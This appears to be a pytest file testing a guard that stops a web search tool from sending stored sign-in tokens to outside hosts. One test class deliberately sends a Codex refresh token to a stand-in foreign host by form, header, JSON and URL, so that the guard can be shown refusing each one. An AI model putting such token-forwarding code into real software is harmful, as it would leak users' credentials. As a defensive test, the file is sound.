"""A stored sign-in's token too short to be a service's is looked for only where it stands whole.

Found by a first run of the CLI on a machine whose credential store held a Codex sign-in with
the refresh token ``r`` (a test's value): the send-time check looked for every handed-out
token anywhere in every request bound off the machine, found ``r`` in DuckDuckGo's
``?q=rust``-like URLs, and refused every free engine with the sign-in's refusal; the answer
any of them could give was lost. A short token still counts where it stands whole: as a
form's or a parameter's value, a header's last word, a JSON string.
"""

from pathlib import Path

import pytest

from tests.proxied_sign_ins import proxied_context, stored_sign_in
from websearch_core import Credentials, SearchParams
from websearch_core.credentials import CredentialStore
from websearch_core.errors import ProviderNotConfiguredError
from websearch_core.provider_types import Flow
from websearch_core.providers.codex import CodexProvider
from websearch_core.providers.duckduckgo import DuckDuckGoProvider
from websearch_core.testing import Simulator
from websearch_core.transport import HttpRequest

ACCESS = "codex-stored-access-token-0123456789"
SHORT_REFRESH = "r"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A credentials file with a Codex sign-in whose refresh token is one letter."""
    path = tmp_path / "credentials.json"
    return stored_sign_in(path, "codex", ACCESS, refresh_token=SHORT_REFRESH)


@pytest.mark.parametrize("query", ["rust ownership", "python asyncio"])
async def test_a_free_engine_is_asked_beside_a_short_stored_refresh_token(
    store: Path, query: str
) -> None:
    # DuckDuckGo sent off the machine (plain http, so that the simulator, as the proxy,
    # answers it as DuckDuckGo without a tunnel).
    async with Simulator(["duckduckgo"]) as sim:
        off_machine = {"duckduckgo": "http://html.duckduckgo.invalid"}
        resolved = sim.settings(base_urls={}, credentials_file=store, cache=False)
        credentials = Credentials(store=CredentialStore(store), environ={})
        assert credentials.oauth_token("codex") is not None  # handed out, as a chain would
        assert credentials.refresh_tokens == {SHORT_REFRESH: "codex"}
        async with proxied_context(
            sim, resolved, credentials, routes=off_machine, proxy_service="duckduckgo"
        ) as context:
            response = await DuckDuckGoProvider().search(SearchParams(query=query), context)
    assert response.sources and response.provider == "duckduckgo"
    assert len(sim["duckduckgo"].requests) == 1


class SendsTheRefreshToken(CodexProvider):
    """Codex with its sign-in's refresh token sent, from ``prepare``, to a foreign host."""

    how = "form"

    async def prepare(self, flow: Flow) -> None:
        await super().prepare(flow)
        assert flow.token is not None and flow.token.refresh_token is not None
        token = flow.token.refresh_token
        url = "http://foreign.invalid/token"
        if self.how == "form":
            request = HttpRequest(method="POST", url=url, form=(("refresh_token", token),))
        elif self.how == "header":
            request = HttpRequest(method="GET", url=url, headers={"X-Renew": f"Token {token}"})
        elif self.how == "json":
            request = HttpRequest(method="POST", url=url, json={"refresh_token": token})
        else:
            request = HttpRequest(method="GET", url=f"{url}?refresh_token={token}&grant=1")
        await flow.context.transport.send(self.info.id, self.info.label, request)


@pytest.mark.parametrize("how", ["form", "header", "json", "url"])
async def test_a_short_refresh_token_standing_whole_is_still_refused(store: Path, how: str) -> None:
    """A guard: the whole-standing reading keeps every place a token is sent as a value."""
    provider = type("Made", (SendsTheRefreshToken,), {"how": how})()
    async with Simulator(["codex"]) as sim:
        resolved = sim.settings(base_urls={}, credentials_file=store, cache=False)
        credentials = Credentials(store=CredentialStore(store), environ={})
        async with proxied_context(sim, resolved, credentials) as context:
            with pytest.raises(ProviderNotConfiguredError) as refused:
                await provider.search(SearchParams(query="q"), context)
    assert str(refused.value).startswith(
        'Refusing to send the refresh token of the sign-in stored under "codex" to '
        "http://foreign.invalid"
    )
